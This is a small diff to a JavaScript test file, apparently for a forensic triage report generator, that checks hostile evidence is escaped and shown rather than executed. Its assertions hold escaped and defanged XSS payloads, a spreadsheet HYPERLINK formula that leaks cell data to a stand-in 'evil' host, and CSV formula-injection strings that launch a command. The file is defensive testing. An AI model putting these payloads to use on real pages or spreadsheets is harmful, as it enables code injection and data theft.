@@ -41,7 +41,7 @@ describe('HTML: hostile evidence is shown, never executed', () => {
     expect(page).toContain('<span><b>note</b>=&lt;/textarea&gt;&lt;svg onload=&quot;document[.]title=&#39;PWNED&#39;&quot;&gt;</span>')
     expect(page).toContain('Session closed &lt;/script&gt;&lt;script src=&quot;hxxp://127[.]0[.]0[.]1:9/js&quot;&gt;&lt;/script&gt; &lt;iframe src=&quot;hxxp://127[.]0[.]0[.]1:9/frame&quot;&gt;&lt;/iframe&gt;')
     expect(page).toContain('<span><b>remote_alias</b>==HYPERLINK(&quot;hxxp://evil[.]example/?leak=&quot;&amp;A1,&quot;click me&quot;)</span>')
-    expect(page).toContain(`<span><b>file</b>=+cmd|&#39; /C calc&#39;!A0</span><span><b>label</b>=@SUM(1+1)*cmd|&#39; /C calc&#39;!A0</span><span><b>size_note</b>=-2+3</span><span><b>tab</b>=${cc('␉')}=1+1</span>`)
+    expect(page).toContain(`<span><b>file</b>=+cmd|&#39; /C calc&#39;!A0</span> <span><b>label</b>=@SUM(1+1)*cmd|&#39; /C calc&#39;!A0</span> <span><b>size_note</b>=-2+3</span> <span><b>tab</b>=${cc('␉')}=1+1</span>`)
     expect(page).toContain(`<span><b>cr</b>=${cc('␍')}=1+1</span>`)
     expect(page).toContain('<title>dprk-triage report: laptop-farm-01, laptop-farm-02</title>')
     expect(page).toContain('<p class="small mut">Evidence: <span class="brk">/evidence/laptop-farm-01 &lt;img src=x onerror=alert(1)&gt;</span></p>')
